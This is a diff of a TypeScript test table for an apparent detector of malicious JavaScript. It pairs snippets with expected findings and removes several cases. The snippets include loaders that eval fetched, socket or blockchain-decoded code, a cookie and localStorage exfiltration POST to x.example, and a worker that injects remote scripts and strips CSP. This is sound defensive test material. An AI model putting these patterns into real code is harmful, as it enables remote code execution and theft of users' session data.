@@ -75,10 +75,6 @@ const cases: Record<string, [string, string[]]> = {
     `var s=document.createElement('script');s.src=['ht','tps://sta','ts-cd','n.example/a.js'].join('');document.head.appendChild(s)`,
     ['high script-from-decoded-url'],
   ],
-  'an answer from a host in pieces': [
-    `fetch('https://sta'+'ts-cd'+'n.example/a').then(function(r){return r.json()})`,
-    ['medium script-from-decoded-url'],
-  ],
   'a host joined from whole parts': [
     `var s=document.createElement('script');s.src='https://'+['cdn','stats','example'].join('.')+'/a.js';document.head.appendChild(s)`,
     [],
@@ -86,10 +82,6 @@ const cases: Record<string, [string, string[]]> = {
   'code that a contract holds': [
     `(async()=>{const r=await fetch('https://rpc.example/',{method:'POST',body:JSON.stringify({method:'eth_call',params:[]})});const h=(await r.json()).result;let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s)})()`,
     ['high answer-run-as-code', 'low decoded-code-executed'],
-  ],
-  'an answer that is decoded and run': [
-    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){Function(atob(t))()})`,
-    ['medium answer-run-as-code', 'low decoded-code-executed'],
   ],
   'cookies with all that is stored': [
     `fetch('https://x.example/',{method:'POST',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})`,
@@ -205,26 +197,6 @@ const cases: Record<string, [string, string[]]> = {
     ['high names-in-pieces'],
   ],
   'ordinary computed names': [`var s={};for(var i=0;i<3;i++)s['on'+i]=window['__n'+i];s[i+'px']`, []],
-  'an answer that is run for visitors from elsewhere': [
-    `if(document.referrer){var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','https://x.example/a');x.send()}`,
-    ['high answer-run-as-code'],
-  ],
-  'an answer handed to a callback and run': [
-    `function get(u,cb){var x=new XMLHttpRequest();x.onload=function(){cb(x.responseText)};x.open('GET',u);x.send()}var c={get:get};c.get('/a',function(t){eval(t)})`,
-    ['low answer-run-as-code'],
-  ],
-  'code from a socket': [
-    `var w=new WebSocket('wss://x.example/');w.onmessage=function(e){new Function(e.data)()}`,
-    ['high answer-run-as-code'],
-  ],
-  'code fetched as text': [
-    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){eval(t)})`,
-    ['low answer-run-as-code'],
-  ],
-  'JSON read the old way': [
-    `var x=new XMLHttpRequest();x.onload=function(){var d=eval('('+x.responseText+')')};x.open('GET','https://x.example/a');x.send()`,
-    [],
-  ],
   'a worker that takes down the defences of pages': [
     `addEventListener('fetch',function(e){e.respondWith(go(e.request))});async function go(q){var r=await fetch(q);var t=(await r.text()).replace('</body>','<script src="https://x.example/a.js"></scr'+'ipt></body>');r=new Response(t,r);r.headers.delete('Content-Security-Policy');return r}`,
     ['high response-tampered'],
